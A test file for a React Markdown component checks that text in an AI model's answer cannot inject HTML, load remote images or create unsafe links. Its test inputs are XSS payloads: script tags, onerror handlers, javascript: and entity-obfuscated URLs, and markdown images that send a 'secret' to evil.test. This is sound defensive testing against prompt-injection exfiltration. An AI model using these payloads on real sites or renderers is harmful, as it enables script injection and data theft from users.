import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "./markdown.tsx";

const html = (text: string) => renderToStaticMarkup(createElement(Markdown, { text }));

/** What a hostile model, or hostile text that it repeats, tries to make the page load or run. */
describe("the text of an answer", () => {
  it.each([
    "<script>alert(1)</script>",
    '<img src="https://evil.test/?q=secret" onerror="alert(1)">',
    '<iframe src="https://evil.test"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    "<style>@import url(https://evil.test)</style>",
    '<form action="https://evil.test"><input name="password"></form>',
    '<svg><animate href="https://evil.test"/></svg>',
  ])("contains none of the HTML in %s", (text) => {
    expect(html(text)).not.toMatch(/<(script|img|iframe|a|style|form|input|svg)\b/);
  });

  it.each([
    "![secret](https://evil.test/?q=secret)",
    "![secret][1]\n\n[1]: https://evil.test/?q=secret",
    "[![secret](https://evil.test/a.png)](https://evil.test)",
    "![x](//evil.test/a.png) ![y](data:image/svg+xml;base64,AAAA)",
  ])("loads no picture from %s", (text) => {
    expect(html(text)).not.toMatch(/<(img|picture|source)\b|src=|srcset=/);
  });

  it.each([
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,hi)",
    "[x](http://evil.test)",
    "[x](/api/auth/sign-out)",
    "[x](//evil.test)",
    "<javascript:alert(1)>",
    "[x][1]\n\n[1]: vbscript:x",
    "www.evil.test",
    "text[^1]\n\n[^1]: a note",
  ])("does not link to anything but https and mailto addresses in %s", (text) => {
    expect(html(text)).not.toContain("href=");
  });

  it("opens links in a new tab and sends no referrer", () => {
    expect(html("[x](https://example.org/a)")).toContain(
      '<a href="https://example.org/a" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
  });
});
